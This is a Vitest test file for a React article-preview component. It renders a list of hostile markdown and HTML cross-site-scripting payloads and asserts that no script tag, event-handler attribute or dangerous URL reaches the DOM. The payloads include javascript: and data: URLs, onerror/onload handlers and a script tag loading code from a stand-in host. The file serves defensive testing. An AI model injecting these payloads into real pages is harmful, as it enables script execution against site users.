import { describe, expect, it } from 'vitest';
import { render, waitFor } from '@testing-library/react';
import { ThemeProvider } from 'styled-components';
import { ArticlePreview } from '../../src/web/features/generation/article-preview';
import { theme } from '../../src/web/ui/theme';

/**
 * Hostile markdown rendered by the article preview (react-markdown, no raw HTML, default URL
 * transform): no script may run and no dangerous element, attribute or URL may reach the DOM.
 */
const PAYLOADS: string[] = [
  '[click](javascript:alert(1))',
  '[click](JavaScript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click]( javascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;avascript:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](VBScript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](DATA:text/html,<script>alert(1)</script>)',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<svg onload=alert(1)><circle r="10"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<div onmouseover="alert(1)">hover</div>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '```html\n<script>alert(1)</script>\n```',
  '[x](javascript://%0aalert(1))',
];

const DANGEROUS_URL = /^\s*(javascript|vbscript|data):/i;
const FORBIDDEN_TAGS = 'script, iframe, object, embed, svg, math, style, meta, form, details, base, link';

/** Renders and waits for the article renderer, which is a chunk of its own. */
async function render_(markdown: string) {
  const result = render(
    <ThemeProvider theme={theme}>
      <ArticlePreview open article={`# Title\n\n${markdown}\n\nAfter.`} onClose={() => {}} />
    </ThemeProvider>,
  );
  await waitFor(() => expect(document.body.textContent).toContain('After.'), { timeout: 10_000 });
  return result;
}

describe('article preview against hostile markdown', () => {
  it('has at least 30 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(PAYLOADS.map((p) => [p]))('renders %j without anything dangerous', async (payload) => {
    await render_(payload);
    // The dialog renders into a portal: inspect the whole document.
    const root = document.body;
    expect(root.textContent).toContain('After.');
    expect(root.querySelectorAll(FORBIDDEN_TAGS)).toHaveLength(0);
    for (const el of Array.from(root.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) {
        expect(attr.name.startsWith('on'), `${el.tagName} has ${attr.name}`).toBe(false);
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc'].includes(attr.name)) {
          expect(DANGEROUS_URL.test(attr.value), `${el.tagName} ${attr.name}=${attr.value}`).toBe(false);
        }
      }
    }
    expect((window as unknown as { __xss?: boolean }).__xss).toBeUndefined();
  });

  it('keeps the links the spec allows', async () => {
    await render_('[web](https://example.com/a) [mail](mailto:a@example.com) [chat](xmpp:a@example.com) [rel](/app/articles) [irc](ircs://irc.example/x)');
    const hrefs = Array.from(document.body.querySelectorAll('a')).map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com/a', 'mailto:a@example.com', 'xmpp:a@example.com', '/app/articles', 'ircs://irc.example/x']);
  });
});
